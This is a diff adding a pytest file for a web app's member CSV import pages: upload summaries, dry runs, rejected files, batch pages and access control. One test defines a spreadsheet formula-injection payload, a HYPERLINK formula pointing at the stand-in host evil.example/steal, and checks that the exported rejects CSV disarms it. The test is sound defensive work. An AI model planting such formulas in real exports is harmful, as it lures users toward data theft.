@@ -1,0 +1,145 @@
+"""The member upload page, the batch list and detail pages, and the rejects CSV download."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from sqlalchemy import func, select
+
+from cpp_app.extensions import db
+from cpp_app.importing.models import ImportBatch
+from cpp_app.stations.models import Member
+from tests import factories
+from tests.conftest import post_form
+
+UPLOAD_URL = "/imports/members"
+EVIL_CELL = '=HYPERLINK("http://evil.example/steal","Click me")'
+
+
+def upload(client, content: bytes, filename: str = "roster.csv", dry_run: bool = False):
+    """Post a file to the member upload form, with a CSRF token from the page."""
+    data = {"file": (io.BytesIO(content), filename)}
+    if dry_run:
+        data["dry_run"] = "y"
+    return post_form(client, UPLOAD_URL, data, content_type="multipart/form-data")
+
+
+def count(model) -> int:
+    """Rows in a model's table."""
+    return db.session.scalar(select(func.count()).select_from(model))
+
+
+def test_admin_uploads_a_csv_and_sees_the_summary_and_rejects_by_line(admin_client, admin_user,
+                                                                      station):
+    content = (b"Shield number,First name,Last name,Station\n"
+               b"501,Ann,Lee,CEN\n"
+               b",Bo,Kim,CEN\n"
+               b"502,Cy,Park,NOPE\n"
+               b"503,Di,Ng,cen\n")
+    response = upload(admin_client, content)
+    page = response.get_data(as_text=True)
+    assert response.status_code == 200
+    assert "Import finished" in page
+    assert "Read 4 rows: 2 added, 0 updated, 0 unchanged, 2 rejected." in page
+    assert "<td>3</td><td>the shield number is empty</td>" in page
+    assert "<td>4</td><td>station &#39;NOPE&#39; does not exist (use a station code)</td>" in page
+    assert set(db.session.scalars(select(Member.shield_number))) == {"501", "503"}
+    batch = db.session.scalar(select(ImportBatch))
+    assert batch.filename == "roster.csv"
+    assert (batch.user_id, batch.actor_label) == (admin_user.id, admin_user.email)
+
+
+def test_dry_run_upload_says_nothing_changed_and_adds_no_member(admin_client):
+    response = upload(admin_client, b"Badge,First,Last\n9,Ann,Lee\n", dry_run=True)
+    assert response.status_code == 200
+    assert "Dry run: nothing was changed" in response.get_data(as_text=True)
+    assert count(Member) == 0
+    assert db.session.scalar(select(ImportBatch)).dry_run
+
+
+@pytest.mark.parametrize(("content", "filename"), [
+    (b"%PDF-1.4 a report", "roster.pdf"),
+    (b"\xd0\xcf\x11\xe0 an old workbook", "roster.xls"),
+])
+def test_non_csv_upload_is_refused_with_a_clear_error_and_creates_nothing(admin_client,
+                                                                          content, filename):
+    response = upload(admin_client, content, filename)
+    assert response.status_code == 400
+    assert "Upload a .csv or .xlsx file." in response.get_data(as_text=True)
+    assert count(ImportBatch) == 0 and count(Member) == 0
+
+
+def test_empty_csv_upload_is_refused(admin_client):
+    response = upload(admin_client, b"")
+    assert response.status_code == 400
+    assert "empty" in response.get_data(as_text=True)
+    assert count(Member) == 0
+
+
+def test_csv_missing_the_shield_column_is_refused_naming_it(admin_client):
+    response = upload(admin_client, b"First name,Last name\nAnn,Lee\n")
+    assert response.status_code == 400
+    assert "The file has no column for: Shield number." in response.get_data(as_text=True)
+    assert db.session.scalar(select(ImportBatch)).status == "failed"
+
+
+def test_batch_list_and_detail_show_the_batch_and_its_rejects(admin_client):
+    upload(admin_client, b"Badge,First,Last\n1,Ann,Lee\n1,Bo,Kim\n", filename="night-shift.csv")
+    batch = db.session.scalar(select(ImportBatch))
+    listing = admin_client.get("/imports").get_data(as_text=True)
+    assert f'href="/imports/{batch.id}"' in listing and "night-shift.csv" in listing
+    detail = admin_client.get(f"/imports/{batch.id}")
+    page = detail.get_data(as_text=True)
+    assert detail.status_code == 200
+    assert "night-shift.csv" in page
+    assert "2 read, 1 added, 0 updated, 0 unchanged, 1 rejected" in page
+    assert "<td>3</td>" in page and "shield number 1 already appears on line 2" in page
+    assert f"/imports/{batch.id}/rejects.csv" in page
+
+
+def test_rejects_csv_disarms_spreadsheet_formulas(admin_client):
+    content = ("Badge,First,Last\n"
+               f'2,"{EVIL_CELL.replace(chr(34), chr(34) * 2)}",Lee,extra\n'
+               " ,+1 555 0100,@SUM(A1)\n"
+               "4,,-2+3\n").encode()
+    upload(admin_client, content)
+    batch = db.session.scalar(select(ImportBatch))
+    response = admin_client.get(f"/imports/{batch.id}/rejects.csv")
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert "attachment" in response.headers["Content-Disposition"]
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    assert rows[0] == ["line", "reason", "Badge", "First", "Last"]
+    by_line = {row[0]: row for row in rows[1:]}
+    assert by_line["2"][3] == "'" + EVIL_CELL
+    assert by_line["3"][2:] == [" ", "'+1 555 0100", "'@SUM(A1)"]
+    assert by_line["4"][2:] == ["4", "", "'-2+3"]
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
+def test_rejects_csv_disarms_formulas_in_the_files_own_headers(admin_client):
+    upload(admin_client, b"Badge,First,Last,=1+1\n,Ann,Lee,x\n")
+    batch = db.session.scalar(select(ImportBatch))
+    text = admin_client.get(f"/imports/{batch.id}/rejects.csv").get_data(as_text=True)
+    header = next(csv.reader(io.StringIO(text)))
+    assert header == ["line", "reason", "Badge", "First", "Last", "'=1+1"]
+
+
+@pytest.mark.parametrize("role", ["commander", "staff", "training", "viewer"])
+def test_non_admin_roles_get_403_on_the_import_pages(client, login, station, role):
+    user = factories.make_user(role, station=station if role in ("commander", "staff") else None)
+    login(user)
+    assert client.get(UPLOAD_URL).status_code == 403
+    assert client.get("/imports").status_code == 403
+    response = post_form(client, UPLOAD_URL, {"file": (io.BytesIO(b"Badge\n1\n"), "r.csv")},
+                         form_page="/home", content_type="multipart/form-data")
+    assert response.status_code == 403
+    assert count(Member) == 0 and count(ImportBatch) == 0
+
+
+def test_anonymous_visitor_is_sent_to_log_in(client):
+    response = client.get(UPLOAD_URL)
+    assert response.status_code == 302 and "/login" in response.headers["Location"]
